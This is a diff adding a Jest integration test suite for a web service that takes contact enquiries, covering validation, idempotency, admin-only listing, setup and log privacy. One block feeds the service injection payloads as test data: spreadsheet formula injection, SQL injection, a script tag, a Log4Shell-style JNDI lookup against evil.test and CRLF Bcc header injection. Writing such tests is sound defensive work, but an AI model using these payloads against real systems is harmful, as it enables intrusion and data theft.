@@ -1,0 +1,263 @@
+import { randomUUID } from 'node:crypto';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { noCrmReason } from '@portfolio/contracts/leads.ts';
+import { createTestDatabase, type TestDatabase } from '../../../tests/support/database.ts';
+import { enquiry, eventually, startLeads, type LeadsUnderTest } from './leads-under-test.ts';
+
+let database: TestDatabase;
+let leads: LeadsUnderTest;
+
+beforeAll(async () => {
+  database = await createTestDatabase();
+  leads = await startLeads({ DATABASE_URL: database.url });
+});
+afterAll(async () => {
+  await leads.stop();
+  await database.drop();
+});
+
+const send = (body: unknown, headers: Record<string, string> = {}) =>
+  leads.post('/api/crm/send', body, headers);
+
+describe('an enquiry', () => {
+  it('is accepted with an id, and kept while no CRM is configured', async () => {
+    const body = enquiry();
+    const answer = await send(body);
+    expect(answer.status).toBe(202);
+    expect(await leads.find(answer.body.id)).toEqual({
+      id: answer.body.id,
+      ...body,
+      state: 'pending',
+      reason: noCrmReason,
+      attempts: [],
+      createdAt: expect.stringMatching(/^2\d{3}-.*Z$/),
+      deliveredAt: null,
+    });
+  });
+
+  it('can come by the other path as well', async () => {
+    const body = enquiry();
+    const answer = await leads.post('/api/contact/send-message', body);
+    expect(answer.status).toBe(202);
+    expect(await leads.find(answer.body.id)).toMatchObject(body);
+  });
+
+  it('is refused with the messages of the form where a rule is broken', async () => {
+    const answer = await send({ firstName: 'A', email: 'nobody', phone: '123', notes: 'short' });
+    expect(answer.status).toBe(422);
+    expect(answer.body).toMatchObject({
+      code: 'invalidInput',
+      fields: {
+        firstName: 'Full name is required',
+        email: 'Enter a valid email',
+        phone: 'Phone number must be at least 10 digits',
+        notes: 'Please describe your project idea',
+      },
+    });
+  });
+
+  it('is refused with a field that is not known, too much text, or no JSON', async () => {
+    expect((await send({ ...enquiry(), isAdmin: true })).status).toBe(422);
+    expect((await send({ ...enquiry(), notes: 'x'.repeat(5001) })).status).toBe(422);
+    expect((await send({ ...enquiry(), notes: 'x'.repeat(1024 * 1024) })).status).toBe(413);
+    expect((await send('{"firstName":')).status).toBe(400);
+    expect((await send(enquiry(), { 'Content-Type': 'text/plain' })).status).toBe(415);
+  });
+});
+
+describe('an Idempotency-Key', () => {
+  it('makes one enquiry of a hundred at once', async () => {
+    const body = enquiry();
+    const key = randomUUID();
+    const answers = await Promise.all(
+      Array.from({ length: 100 }, () => send(body, { 'Idempotency-Key': key })),
+    );
+    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([202]));
+    expect(new Set(answers.map(({ text }) => text)).size).toBe(1);
+    expect((await leads.list()).filter(({ email }) => email === body.email)).toHaveLength(1);
+  });
+
+  it('is refused for another enquiry', async () => {
+    const key = randomUUID();
+    const first = await send(enquiry(), { 'Idempotency-Key': key });
+    const second = await send(enquiry(), { 'Idempotency-Key': key });
+    expect(first.status).toBe(202);
+    expect(second.status).toBe(409);
+    expect(second.body.code).toBe('idempotencyKeyReused');
+  });
+
+  it('lets somebody say the same twice', async () => {
+    const body = enquiry();
+    const first = await send(body, { 'Idempotency-Key': randomUUID() });
+    const second = await send(body, { 'Idempotency-Key': randomUUID() });
+    expect(second.status).toBe(202);
+    expect(second.body.id).not.toBe(first.body.id);
+  });
+
+  it('is refused where it is empty of sense', async () => {
+    const answer = await send(enquiry(), { 'Idempotency-Key': 'two words' });
+    expect(answer.status).toBe(400);
+    expect(answer.body.fields).toHaveProperty('idempotency-key');
+  });
+});
+
+describe('the same content without a key', () => {
+  it('is one enquiry, however many arrive at once', async () => {
+    const body = enquiry();
+    const answers = await Promise.all(Array.from({ length: 20 }, () => send(body)));
+    expect(new Set(answers.map(({ body: { id } }) => id)).size).toBe(1);
+    expect((await leads.list()).filter(({ email }) => email === body.email)).toHaveLength(1);
+  });
+
+  it('is another enquiry where a single letter differs', async () => {
+    const body = enquiry();
+    const first = await send(body);
+    const second = await send({ ...body, notes: `${body.notes}!` });
+    expect(second.body.id).not.toBe(first.body.id);
+  });
+});
+
+describe('text that would do harm elsewhere', () => {
+  const lines = [
+    '=HYPERLINK("http://evil.test","x")',
+    '@SUM(1+1)*cmd|"/c calc"!A1',
+    "Robert'); DROP TABLE enquiries;--",
+    '<script>alert(1)</script>',
+    '${jndi:ldap://evil.test/a}',
+    '"quoted","cells";next',
+    'Zoë 王 👩‍🚀 ‮reversed',
+    '%0d%0aBcc: all@example.com',
+  ];
+
+  it.each(lines)('is stored as it was written: %s', async (text) => {
+    const body = enquiry({ firstName: text, notes: `${text}\n\tsecond line, ${text}` });
+    const answer = await send(body);
+    expect(answer.status).toBe(202);
+    expect(await leads.find(answer.body.id)).toMatchObject(body);
+  });
+
+  it.each([
+    'a\r\nBcc: all@example.com',
+    'nul\u0000byte',
+    'esc\u001b[31m',
+    'half \ud800 pair',
+    'csi \u009b31m',
+  ])('is refused in a name: %j', async (text) => {
+    const answer = await send(enquiry({ firstName: text }));
+    expect(answer.status).toBe(422);
+    expect(answer.body.fields).toHaveProperty('firstName');
+  });
+
+  it.each(['nul \u0000 in ten characters', 'half \udc00 a pair of them', 'esc \u001b[31m red letters'])(
+    'is refused in the notes: %j',
+    async (notes) => {
+      expect((await send(enquiry({ notes }))).status).toBe(422);
+    },
+  );
+
+  it('is refused in an e-mail address or a phone number', async () => {
+    expect((await send(enquiry({ email: 'a@b.cd\r\nBcc: x@y.zz' }))).status).toBe(422);
+    expect((await send(enquiry({ phone: '+44 20 7946\n0000' }))).status).toBe(422);
+  });
+});
+
+describe('the list', () => {
+  it('is for the administrator only', async () => {
+    expect((await leads.get('/api/leads', 'visitor')).status).toBe(401);
+    expect((await leads.get('/api/leads', 'stranger')).status).toBe(401);
+    expect((await leads.post(`/api/leads/${randomUUID()}/retry`)).status).toBe(401);
+  });
+
+  it('is newest first, page by page, and misses nothing', async () => {
+    for (let i = 0; i < 5; i += 1) await leads.enquire();
+    const whole = await leads.list();
+    expect(whole.map(({ createdAt }) => createdAt)).toEqual(
+      whole
+        .map(({ createdAt }) => createdAt)
+        .sort()
+        .reverse(),
+    );
+    const ids: string[] = [];
+    let path: string | undefined = '/api/leads?limit=7&state=pending';
+    while (path !== undefined) {
+      const answer = await leads.get(path);
+      const page = JSON.parse(answer.text) as { id: string }[];
+      expect(page.length).toBeLessThanOrEqual(7);
+      expect(answer.headers.get('x-total-count')).toBe(String(whole.length));
+      ids.push(...page.map(({ id }) => id));
+      path = /<([^>]+)>; rel="next"/.exec(answer.headers.get('link') ?? '')?.[1];
+    }
+    expect(ids).toEqual(whole.map(({ id }) => id));
+  });
+
+  it('can be narrowed to a state', async () => {
+    expect(await leads.list('?state=delivered')).toEqual([]);
+    expect((await leads.list('?state=pending')).length).toBeGreaterThan(0);
+  });
+
+  it.each(['?state=lost', '?limit=0', '?limit=201', '?cursor=%27', '?cursor=bm9uZQ', '?order=asc'])(
+    'refuses the query %s',
+    async (query) => {
+      expect((await leads.get(`/api/leads${query}`)).status).toBe(400);
+    },
+  );
+
+  it.each([randomUUID(), 'none', "1'or'1"])('has nothing to send again under the id %s', async (id) => {
+    const answer = await leads.postAsAdministrator(`/api/leads/${encodeURIComponent(id)}/retry`);
+    expect(answer.status).toBe(404);
+    expect(answer.body.code).toBe('enquiryNotFound');
+  });
+});
+
+describe('before the platform is set up', () => {
+  it('enquiries are refused with 503, until a connection is there', async () => {
+    const early = await startLeads({});
+    const own = await createTestDatabase();
+    try {
+      const answer = await early.post('/api/crm/send', enquiry());
+      expect(answer.status).toBe(503);
+      expect(answer.body.code).toBe('notSetUp');
+
+      const { host, port, database: name, user, password } = own;
+      const connection = JSON.stringify({ host, port, database: name, user, password });
+      writeFileSync(join(early.configDir, 'connection.json'), connection, { mode: 0o600 });
+      expect((await early.post('/internal/migrate')).status).toBe(204);
+      expect((await early.post('/api/crm/send', enquiry())).status).toBe(202);
+    } finally {
+      await early.stop();
+      await own.drop();
+    }
+  });
+
+  it('only a signed caller may have the schema migrated', async () => {
+    const answer = await leads.get('/internal/migrate', 'stranger');
+    expect(answer.status).toBe(401);
+  });
+});
+
+describe('logs and metrics', () => {
+  it('hold nothing of what a visitor wrote', async () => {
+    const canary = enquiry({
+      firstName: 'Canaryname',
+      email: 'canarymail@example.com',
+      phone: '0800canaryphone',
+      notes: 'canarynotes in these notes',
+    });
+    await send(canary, { 'Idempotency-Key': 'canarykey-1' });
+    await send({ ...canary, notes: 'other canarynotes' }, { 'Idempotency-Key': 'canarykey-1' });
+    await send({ ...canary, email: 'canarymail@' });
+    await send(`{"firstName":"Canaryname`);
+    await leads.get('/api/leads?cursor=canarycursor');
+    const metrics = await eventually(async () => {
+      const { text } = await leads.get('/metrics', 'stranger');
+      expect(text).toMatch(/leads_deliveries_pending{[^}]*} [1-9]/);
+      return text;
+    });
+    expect(metrics).toMatch(/leads_oldest_pending_seconds{[^}]*} \d/);
+    expect(metrics).toMatch(/leads_deliveries_failed{[^}]*} 0/);
+    expect(leads.logs.length).toBeGreaterThan(5);
+    expect(leads.logs.join('') + metrics).not.toMatch(/canary/i);
+  });
+});
